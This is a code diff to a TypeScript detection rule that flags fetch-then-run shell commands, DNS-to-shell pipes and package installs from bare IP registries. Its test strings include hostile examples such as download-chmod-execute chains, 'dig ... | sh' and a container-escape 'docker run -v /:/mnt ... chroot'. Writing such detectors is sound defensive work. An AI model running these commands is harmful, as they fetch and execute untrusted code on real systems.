@@ -1,5 +1,10 @@
 import type { Rule } from '../../rule.js';
 
+/** What is there is installed or applied, or is to be from now on. */
+const TAKES = /\s(?:install|i|add|apply|create|upgrade|set|-y|--yes|--(?:extra-)?index-url|--registry)[\s=]/;
+/** Addresses that lead nowhere outside (RFC 1918, RFC 1122, RFC 3927). */
+const OWN_NETWORK = /\/\/(?:0\.|10\.|127\.|169\.254\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.)[\d.]+.$/;
+
 export const rule: Rule = {
   pattern: 'pipe_to_shell',
   variant: 'fetch-then-run',
@@ -19,7 +24,7 @@ export const rule: Rule = {
     },
     // wget http://h/x; chmod 777 x; ./x
     {
-      re: /(?<![\w.-])(?:curl|wget|tftp|ftpget|lwp-download|axel|aria2c)\s[^\n]*(?:;|&&|\|\|?)\s*(?:sudo\s+)?chmod\s[^\n]*(?:;|&&|\|\|?)\s*(?:sudo\s+|nohup\s+)*(?:\.?\/[\w$]|~\/|\$\w|(?:ba|z|k|da|a)?sh\s)/,
+      re: /(?<![\w.-])(?:curl|wget|fetch|tftp|ftpget|lwp-download|axel|aria2c)\s[^\n]*(?:;|&&|\|\|?)\s*(?:sudo\s+)?chmod\s[^\n]*(?:;|&&|\|\|?)\s*(?:sudo\s+|nohup\s+)*(?:\.?\/[\w$]|~\/|\$\w|(?:ba|z|k|da|a)?sh\s)/,
       window: 768,
     },
     // The same, a line each.
@@ -51,8 +56,14 @@ export const rule: Rule = {
     { re: /(?<![\w.-])eval\s+\\?["']?(?:\$\(|`)\s*(?:\/usr\/bin\/)?(?:curl|wget|fetch|lynx|nc|dig|nslookup|host)\s/ },
     // dig +short txt h | sh: commands that hide in DNS
     {
-      re: /(?<![\w.-])(?:dig|nslookup|host|finger|lynx|GET|nc|ncat)\s[^\n;]*\|\s*(?:tr\s[^\n|;]*\|\s*|base64\s[^\n|;]*\|\s*)*(?:sudo\s+)?(?:\/bin\/)?(?:ba|z|da)?sh(?![\w.-])/,
+      re: /(?<![\w.-])(?:dig|nslookup|host|finger|lynx|GET|nc|ncat|socat)\s[^\n;]*\|\s*(?:tr\s[^\n|;]*\|\s*|base64\s[^\n|;]*\|\s*)*(?:sudo\s+)?(?:\/bin\/)?(?:ba|z|da)?sh(?![\w.-])/,
       window: 300,
+    },
+    // Packages and settings from a bare address, which no registry has (T1195.002)
+    {
+      re: /(?<![\w.-])(?:pip[\d.]*|pipx|uvx?|npm|npx|pnpm|yarn|gem|helm|kubectl)\s[^\n;|&]*https?:\/\/\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}[:/]/,
+      window: 240,
+      accept: ({ text }) => TAKES.test(text) && !OWN_NETWORK.test(text),
     },
     {
       re: /(?<![\w.-])docker\s+run[^\n]*(?:\s-v\s*|\s--volume[= ]|\s--mount[= ][^\n]*src=)\/:\/[^\n]*chroot\s/,
@@ -71,6 +82,10 @@ export const rule: Rule = {
       'eval `wget -qO- https://files.invalid/x`',
       'docker run -v /:/mnt --rm -it alpine chroot /mnt sh',
       'dig +short txt cmd.files.invalid | sh',
+      'fetch http://203.0.113.7/a && chmod +x a && ./a',
+      'pip install --index-url http://203.0.113.7:8080/simple internal-tools',
+      'npm config set registry http://203.0.113.7:4873/',
+      'kubectl apply -f http://203.0.113.7/p.yaml',
     ],
     silent: [
       'curl -LO https://files.invalid/tool && chmod +x tool && mv tool /usr/local/bin/',
@@ -78,6 +93,9 @@ export const rule: Rule = {
       'curl https://files.invalid/x; echo done',
       'wget https://files.invalid/a.tar.gz && tar xzf a.tar.gz && ./configure && make',
       'host example.com | grep address',
+      'pip install --index-url http://10.0.0.5:8080/simple internal-tools',
+      'npm config set registry http://127.0.0.1:4873/',
+      'npm http fetch GET 200 http://203.0.113.7/pkg.tgz',
       'nc -l 80 > out.shape',
       '- See `type command`.\n  - `curl cheat.invalid/command` shows examples.',
     ],
